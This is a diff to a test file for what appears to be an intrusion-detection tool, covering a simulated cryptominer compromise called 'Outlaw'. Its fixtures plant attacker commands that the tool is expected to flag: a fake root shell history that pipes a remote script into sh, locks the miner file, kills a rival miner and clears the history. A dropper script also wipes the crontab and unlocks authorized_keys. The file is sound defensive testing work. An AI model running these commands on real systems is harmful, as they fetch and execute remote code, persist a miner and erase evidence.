@@ -25,6 +25,20 @@ describe('scenario: Outlaw', () => {
       '#!/bin/sh\nkillall -9 xmrig kthreaddi\npkill -f ddgs\nchattr -iae ~/.ssh/authorized_keys\ncrontab -r\n',
       0o755,
     );
+    // What the operator typed after logging in: fetch the kit, lock the miner, kill a rival, wipe the history.
+    s.plant(
+      'root/.bash_history',
+      [
+        'uname -a',
+        'cd /tmp/.X25-unix/.rsync',
+        'wget -qO- http://203.0.113.5/dota3.sh | sh',
+        `chattr +i ${miner}`,
+        'pkill -f kthreaddi',
+        'history -c',
+        '',
+      ].join('\n'),
+      0o600,
+    );
     const m = await s.start(miner, ['kswapd0', '-o', `${s.ip}:3333`, '-u', WALLET, '-p', 'x', '-k'], {
       MWS_BURN: '1',
       MWS_POOL: `${s.ip}:3333`,
@@ -46,6 +60,16 @@ describe('scenario: Outlaw', () => {
     expect(incident.attribution[0]?.indicators).toEqual(
       expect.arrayContaining(['staging directory ~/.configrc', 'miner named kswapd0']),
     );
+
+    // The history names the miner's file, so it joins the miner's incident, line numbers and all.
+    const history = findings.find((f) => f.ruleId === 'exec.history-dropper');
+    expect(history).toMatchObject({
+      entity: { kind: 'file', path: '/root/.bash_history' },
+      evidence: {
+        signs: ['chattr-immutable', 'download-to-shell', 'history-cleared', 'rival-kill'],
+        lines: [{ line: 3 }, { line: 4 }, { line: 5 }, { line: 6 }],
+      },
+    });
 
     const key = out.findings.find((f) => f.ruleId === 'persist.ssh.known-bad-key');
     expect(key?.entity.path).toBe('/root/.ssh/authorized_keys');
